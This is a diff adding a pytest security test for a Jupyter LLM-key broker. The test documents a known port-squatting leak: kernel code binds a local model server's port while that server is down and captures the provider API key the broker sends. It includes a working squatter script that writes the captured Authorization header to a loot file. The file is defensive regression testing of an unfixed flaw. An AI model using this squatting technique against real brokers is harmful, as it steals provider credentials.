@@ -1,0 +1,76 @@
+"""Tier 2: port squatting. A model served on this machine (`api_base: http://127.0.0.1:PORT`, e.g.
+a local vLLM) is allowlisted by host and port, not by who listens there. When that server is
+down, code in a kernel binds the port itself and the broker sends it the provider key.
+
+This is a real leak for loopback/LAN plain-HTTP endpoints (TLS with certificate checking would
+stop it: the squatter cannot present the server's certificate). Marked xfail(strict) until the
+broker refuses or verifies such endpoints; see docs/security.md.
+"""
+from __future__ import annotations
+
+import importlib.util
+import json
+import pathlib
+
+import pytest
+
+from jupyter_securellm.demo import free_port
+
+_spec = importlib.util.spec_from_file_location(
+    "_sec_server_conftest2", pathlib.Path(__file__).resolve().parent.parent / "server" / "conftest.py")
+_srv = importlib.util.module_from_spec(_spec)
+_spec.loader.exec_module(_srv)
+bao, server_token_file, provider_key, jp_server_config, kernels = (
+    _srv.bao, _srv.server_token_file, _srv.provider_key, _srv.jp_server_config, _srv.kernels)
+
+
+@pytest.fixture
+def local_port():
+    return free_port()  # nothing listens there: the "local model server" is down
+
+
+@pytest.fixture
+def securellm_config(bao, server_token_file, provider_key, local_port):
+    return {"vault_url": bao.url, "vault_auth_method": "token", "vault_token_path": str(server_token_file),
+            "models": {"local": {"model": "openai/llama3", "secret_path": "llm/openai", "secret_key": "api_key",
+                                 "api_base": f"http://127.0.0.1:{local_port}/v1"}},
+            "allowed_hosts": [f"127.0.0.1:{local_port}"], "preload_litellm": False}
+
+
+_SQUAT = r'''
+import json, os, threading, urllib.request, urllib.error
+from http.server import BaseHTTPRequestHandler, HTTPServer
+got = []
+class H(BaseHTTPRequestHandler):
+    def log_message(self, *a): pass
+    def do_POST(self):
+        got.append(self.headers.get("Authorization", ""))
+        self.rfile.read(int(self.headers.get("Content-Length") or 0))
+        self.send_response(500); self.send_header("Content-Length", "0"); self.end_headers()
+srv = HTTPServer(("127.0.0.1", PORT), H)
+threading.Thread(target=srv.serve_forever, daemon=True).start()
+b = {"model": "local", "messages": [{"role": "user", "content": "hi"}]}
+r = urllib.request.Request(os.environ["JUPYTER_SECURELLM_URL"] + "/chat/completions", data=json.dumps(b).encode(),
+                           headers={"X-SecureLLM-Token": os.environ["JUPYTER_SECURELLM_KERNEL_TOKEN"],
+                                    "Content-Type": "application/json"})
+try:
+    st = urllib.request.urlopen(r, timeout=60).status
+except urllib.error.HTTPError as e:
+    st = e.code
+srv.shutdown(); srv.server_close()
+json.dump({"status": st, "auth": got}, open(LOOT, "w"))
+print("{}")
+'''
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "server: a plain-HTTP loopback api_base is trusted by host:port only; a kernel that binds the port "
+    "while the local model server is down receives the provider key (needs https/verification, or "
+    "refusing http:// loopback endpoints for keyed models)"))
+async def test_kernel_squatting_a_local_model_port_gets_no_key(kernels, provider_key, local_port, tmp_path, rt):
+    kid = await kernels.start()
+    loot = tmp_path / "squat.json"
+    await kernels.run(kid, f"PORT = {local_port}\nLOOT = {str(loot)!r}\n" + _SQUAT, timeout=120)
+    data = json.loads(loot.read_text())
+    assert data["auth"], "the broker did not call the squatted port at all"
+    rt.assert_no_secret(json.dumps(data), provider_key, "a request the broker sent to a squatted local port")
